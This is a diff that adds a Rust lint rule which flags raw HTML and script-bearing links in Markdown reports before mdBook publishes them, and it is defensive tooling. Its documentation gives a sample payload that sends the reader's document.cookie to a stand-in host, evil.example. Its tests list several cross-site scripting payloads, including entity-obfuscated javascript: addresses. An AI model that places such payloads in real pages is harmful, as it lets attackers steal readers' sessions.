@@ -1,0 +1,307 @@
+//! `unsafe-html`: HTML or a link in a report that would run script in the handbook.
+
+use crate::lint::{Context, Finding, Level, Rule};
+use pulldown_cmark::{Event, Parser, Tag};
+use std::ops::Range;
+
+/// The rule.
+pub const RULE: Rule = Rule {
+    name: "unsafe-html",
+    default_level: Level::Error,
+    summary: "raw HTML or a link that would run script, load a page or redirect the reader once published",
+    explanation: r#"## What it does
+Finds, outside code, what mdBook publishes as live HTML and a browser would run: a
+`<script>`, `<iframe>`, `<object>`, `<embed>`, `<form>`, `<base>`, `<meta>` or
+`<link>` tag, an event attribute (`onerror=`, `onclick=`), and a `javascript:`,
+`vbscript:` or `data:` address in a Markdown link or image or in an HTML attribute.
+
+## Why is this bad?
+mdBook copies a report's HTML into the handbook as it is. A report comes from a pull
+request: whatever script it holds runs for every reader of the handbook, with their
+session on its site. A reviewer reading the Markdown diff can miss it; the linter does
+not.
+
+## Example
+```markdown
+Dashboard: <img src="x" onerror="fetch('https://evil.example/?c='+document.cookie)">
+See [the runbook](javascript:alert(1)).
+```
+
+Use instead:
+```markdown
+Dashboard: ![latency during the rollback](latency.png)
+See [the runbook](https://wiki.example.com/runbooks/payments).
+```
+
+## Configuration
+`unsafe-html = "warn"` under `[preprocessor.rollback.lints]` if your handbook is
+private and its authors trusted (an embedded dashboard `<iframe>`); show HTML as text
+in backticks.
+"#,
+    check,
+    one_per_section: false,
+};
+
+fn check(ctx: &Context<'_>, out: &mut Vec<Finding>) {
+    let text = &ctx.report.source.text;
+    let start = ctx.report.body_start.min(text.len());
+    let body = &text[start..];
+    // Most reports hold nothing that could be one of these: they skip the parse.
+    let suspect = crate::regex!(
+        r"(?i)<\s*(?:script|i?frame|object|embed|applet|form|base|meta|link)|(?-u:\b)on[a-z]+\s*=|(?:script|data)\s*(?::|&)|&#"
+    );
+    if !suspect.is_match(body) {
+        return;
+    }
+    let options = crate::report::markdown::parser_options();
+    for (event, range) in Parser::new_ext(body, options).into_offset_iter() {
+        let span = start + range.start..start + range.end;
+        match event {
+            Event::Html(html) | Event::InlineHtml(html) => {
+                // An HTML block in a quote or list is its lines without their markers:
+                // then the finding points at the whole block.
+                let as_written = body.get(range.clone()) == Some(&*html);
+                for (found, message) in html_problems(&html) {
+                    let at = if as_written {
+                        span.start + found.start..span.start + found.end
+                    } else {
+                        crate::lint::trim_span(text, span.clone())
+                    };
+                    out.push(Finding::new(
+                        at,
+                        message,
+                        "remove it, or put it in backticks to show it as text: the handbook publishes a report's HTML as it is",
+                    ));
+                }
+            }
+            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
+                if let Some(scheme) = script_scheme(&dest_url) {
+                    out.push(Finding::new(
+                        crate::lint::trim_span(text, span),
+                        format!("this link's `{scheme}:` address runs script when it is followed"),
+                        "link to an `https://` address, or remove the link",
+                    ));
+                }
+            }
+            _ => {}
+        }
+    }
+}
+
+/// The scheme of an address that runs script or holds a page (`javascript:`,
+/// `vbscript:`, `data:`), read as a browser does: entities decoded, and tabs, line
+/// breaks and spaces inside it ignored.
+fn script_scheme(url: &str) -> Option<&'static str> {
+    let decoded = decode_entities(url);
+    let plain: String = decoded
+        .chars()
+        .filter(|c| !c.is_ascii_whitespace() && !c.is_ascii_control())
+        .take(12)
+        .collect::<String>()
+        .to_ascii_lowercase();
+    ["javascript", "vbscript", "data"]
+        .into_iter()
+        .find(|scheme| {
+            plain
+                .strip_prefix(scheme)
+                .is_some_and(|rest| rest.starts_with(':'))
+        })
+}
+
+/// `text` with HTML's numeric character references (`&#106;`, `&#x6A;`) and `&colon;`
+/// decoded, as far as a scheme's letters go.
+fn decode_entities(text: &str) -> String {
+    crate::regex!(r"(?i)&#(x[0-9a-f]{1,6}|[0-9]{1,7});?|&colon;|&tab;|&newline;")
+        .replace_all(text, |caps: &regex::Captures<'_>| {
+            let whole = caps.get(0).map_or("", |m| m.as_str()).to_ascii_lowercase();
+            match caps.get(1).map(|m| m.as_str().to_ascii_lowercase()) {
+                Some(number) => {
+                    let value = match number.strip_prefix('x') {
+                        Some(hex) => u32::from_str_radix(hex, 16).ok(),
+                        None => number.parse().ok(),
+                    };
+                    value
+                        .and_then(char::from_u32)
+                        .map_or(String::new(), String::from)
+                }
+                None if whole == "&colon;" => ":".into(),
+                None => " ".into(),
+            }
+        })
+        .into_owned()
+}
+
+/// The attributes that hold an address a browser follows or loads.
+const URL_ATTRIBUTES: &[&str] = &[
+    "href",
+    "src",
+    "action",
+    "formaction",
+    "poster",
+    "background",
+    "data",
+    "srcdoc",
+    "xlink:href",
+];
+
+/// The attributes of a tag whose name ends where `rest` begins, as a browser reads them:
+/// each name's place, and its value's (without quotes), up to the end of the tag.
+fn attributes(rest: &str) -> Vec<(Range<usize>, Option<Range<usize>>)> {
+    let bytes = rest.as_bytes();
+    let mut found = Vec::new();
+    let mut i = 0;
+    loop {
+        while i < bytes.len() && (bytes[i].is_ascii_whitespace() || bytes[i] == b'/') {
+            i += 1;
+        }
+        if i >= bytes.len() || bytes[i] == b'>' {
+            return found;
+        }
+        let name_start = i;
+        while i < bytes.len()
+            && !bytes[i].is_ascii_whitespace()
+            && !matches!(bytes[i], b'=' | b'>' | b'/')
+        {
+            i += 1;
+        }
+        let name = name_start..i.max(name_start + 1).min(bytes.len());
+        i = name.end;
+        let mut j = i;
+        while j < bytes.len() && bytes[j].is_ascii_whitespace() {
+            j += 1;
+        }
+        if j >= bytes.len() || bytes[j] != b'=' {
+            found.push((name, None));
+            continue;
+        }
+        j += 1;
+        while j < bytes.len() && bytes[j].is_ascii_whitespace() {
+            j += 1;
+        }
+        let value = match bytes.get(j) {
+            Some(&quote @ (b'"' | b'\'')) => {
+                let end = bytes[j + 1..]
+                    .iter()
+                    .position(|&b| b == quote)
+                    .map_or(bytes.len(), |p| j + 1 + p);
+                let value = j + 1..end;
+                i = (end + 1).min(bytes.len());
+                value
+            }
+            _ => {
+                let end = bytes[j..]
+                    .iter()
+                    .position(|&b| b.is_ascii_whitespace() || b == b'>')
+                    .map_or(bytes.len(), |p| j + p);
+                i = end;
+                j..end
+            }
+        };
+        found.push((name, Some(value)));
+    }
+}
+
+/// What in a piece of raw HTML would run or load: its dangerous tags, event attributes
+/// and script addresses, with where each is in `html`.
+fn html_problems(html: &str) -> Vec<(Range<usize>, String)> {
+    let mut found = Vec::new();
+    let tag = crate::regex!(
+        r"(?i)<\s*(script|iframe|frame|frameset|object|embed|applet|form|base|meta|link)(?-u:\b)"
+    );
+    for caps in tag.captures_iter(html) {
+        if let (Some(whole), Some(name)) = (caps.get(0), caps.get(1)) {
+            found.push((
+                whole.range(),
+                format!(
+                    "a `<{}>` tag is published as live HTML",
+                    name.as_str().to_ascii_lowercase()
+                ),
+            ));
+        }
+    }
+    // Attributes, inside a tag: `<img src=x onerror=…>`.
+    for element in crate::regex!(r"<[A-Za-z][^\s/>]*").find_iter(html) {
+        for (name, value) in attributes(&html[element.end()..]) {
+            let offset = element.end();
+            let lowered = html[offset + name.start..offset + name.end].to_ascii_lowercase();
+            if lowered.starts_with("on") && lowered.len() > 2 {
+                found.push((
+                    offset + name.start..offset + name.end,
+                    format!("the event attribute `{lowered}` runs script in the reader's browser"),
+                ));
+            } else if let Some(value) = value
+                && URL_ATTRIBUTES.contains(&lowered.as_str())
+                && let Some(scheme) = script_scheme(&html[offset + value.start..offset + value.end])
+            {
+                found.push((
+                    offset + value.start..offset + value.end,
+                    format!("a `{scheme}:` address in HTML runs script or loads a page"),
+                ));
+            }
+        }
+    }
+    found.sort_by_key(|(range, _)| range.start);
+    found
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn messages(html: &str) -> Vec<String> {
+        html_problems(html).into_iter().map(|(_, m)| m).collect()
+    }
+
+    #[test]
+    fn script_and_its_disguises_are_found() {
+        assert_eq!(
+            messages("<script>alert(1)</script>"),
+            ["a `<script>` tag is published as live HTML"]
+        );
+        assert_eq!(
+            messages("<img src=x onerror=alert(1)>"),
+            ["the event attribute `onerror` runs script in the reader's browser"]
+        );
+        assert_eq!(
+            messages(r#"<a href="jav&#x61;script:alert(1)">x</a>"#),
+            ["a `javascript:` address in HTML runs script or loads a page"]
+        );
+        assert_eq!(
+            messages("<IFRAME SRC='data:text/html,x'>"),
+            [
+                "a `<iframe>` tag is published as live HTML",
+                "a `data:` address in HTML runs script or loads a page"
+            ]
+        );
+        for scheme in [
+            "java\tscript:x",
+            " JavaScript:x",
+            "&#106;avascript:x",
+            "vbscript&colon;x",
+        ] {
+            assert!(script_scheme(scheme).is_some(), "{scheme:?}");
+        }
+    }
+
+    #[test]
+    fn harmless_html_is_left_alone() {
+        for html in [
+            "<br>",
+            "<details><summary>Logs</summary>",
+            r#"<img src="latency.png" alt="one=two">"#,
+            r#"<a href="https://grafana.example/d/1?online=1">"#,
+            "<span class=\"condition\">",
+            "<sup>1</sup>",
+        ] {
+            assert!(messages(html).is_empty(), "{html}");
+        }
+        for url in [
+            "https://x.example/javascript:",
+            "runbook.md",
+            "#data",
+            "mailto:a@b.example",
+        ] {
+            assert!(script_scheme(url).is_none(), "{url}");
+        }
+    }
+}
